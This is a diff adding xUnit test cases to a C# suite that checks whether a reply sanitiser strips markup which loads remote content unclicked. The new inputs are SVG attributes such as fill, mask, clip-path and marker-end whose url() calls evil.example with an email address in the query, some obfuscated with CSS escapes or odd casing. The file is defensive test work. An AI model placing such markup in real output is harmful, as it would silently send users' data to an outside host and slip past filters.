@@ -78,6 +78,10 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("x <style>@import \"/\t/evil.example/p.css?d=alice.w@corp.example\";</style> y", "x &lt;style>@import \"/\t/evil.example/p.css?d=alice.w@corp.example\";</style> y")]
     [InlineData("x <div style=\"background:url('h\\9ttps://evil.example/p?d=alice.w@corp.example')\">y</div>", "x <div style=\"\">y</div>")]
     [InlineData("x <div style=\"background:url(\\9/\\D/evil.example/p?d=alice.w@corp.example)\">y</div>", "x <div style=\"\">y</div>")]
+    [InlineData("x <svg><rect width=\"9\" height=\"9\" fill=\"url(https://evil.example/p?d=alice.w@corp.example#p)\"/></svg>", "x <svg><rect width=\"9\" height=\"9\" fill=\"\"/></svg>")]
+    [InlineData("x <svg><rect width=\"9\" height=\"9\" MASK='url(//evil.example/p?d=alice.w@corp.example#m)'/></svg>", "x <svg><rect width=\"9\" height=\"9\" MASK=''/></svg>")]
+    [InlineData("x <svg><rect width=\"9\" height=\"9\" clip-path=url(https://evil.example/p?d=alice.w@corp.example#c) /></svg>", "x <svg><rect width=\"9\" height=\"9\" clip-path=\"\" /></svg>")]
+    [InlineData("x <svg><path d=\"M0 0L9 9\" marker-end=\"\\75rl(https://evil.example/p?d=alice.w@corp.example#m)\"/></svg>", "x <svg><path d=\"M0 0L9 9\" marker-end=\"\"/></svg>")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
@@ -132,6 +136,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("<meta name=\"viewport\" content=\"width=device-width\"> <div style=\"color: red; font-family: 'Segoe UI'\">x</div>")]
     [InlineData("See <a href=\"https://docs.example/x\" title=\"on hover\">this</a> and <img src=\"charts/q3.png\" alt=\"chart\">.")]
     [InlineData("<style>p { color: red; }</style> Done, <b>one</b> time.")]
+    [InlineData("<svg width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\" fill=\"url(#grad)\" mask=\"url(#m)\" stroke=\"red\"/></svg> drawn here.")]
     [InlineData("Set onerror = handler in your code; data: and javascript: are schemes.")]
     [InlineData("- <p title='a\n  b'>kept in its list item</p>\n> <p title='c\n> d'>kept in its quote</p>")]
     public async Task MarkupThatLoadsNothingRemote_IsUnchanged(string reply)
